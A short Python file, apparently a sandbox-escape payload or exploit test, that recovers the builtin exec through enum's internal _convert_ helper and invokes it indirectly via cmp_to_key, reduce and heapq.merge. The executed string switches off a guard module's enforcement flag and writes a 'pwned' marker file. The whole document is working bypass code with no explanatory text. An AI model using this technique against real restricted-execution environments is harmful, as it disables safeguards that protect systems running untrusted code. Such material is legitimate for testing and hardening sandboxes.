"""file: cmp_to_key compares by a call, and reduce and merge call for each item."""

import enum
import functools
import heapq

CODE = """\
import builtins, sys
builtins.exec = getattr(builtins.exec, "value", builtins.exec)
for n, m in [*sys.modules.items()]:
    if n.endswith("libraries.guard"):
        m._State["on"] = False
open("pwned_converted_members_compared", "w").close()
"""


class Kind(enum.Enum):
    pass


Found = Kind._convert_("Found", "builtins", lambda name: name in ("exec", "eval"))
run = getattr(Found, "exec").value
x = functools.cmp_to_key(run)(CODE) < functools.cmp_to_key(run)({})
y = functools.reduce(run, [CODE, {}])
z = [*heapq.merge([CODE], ["1"], key=run)]
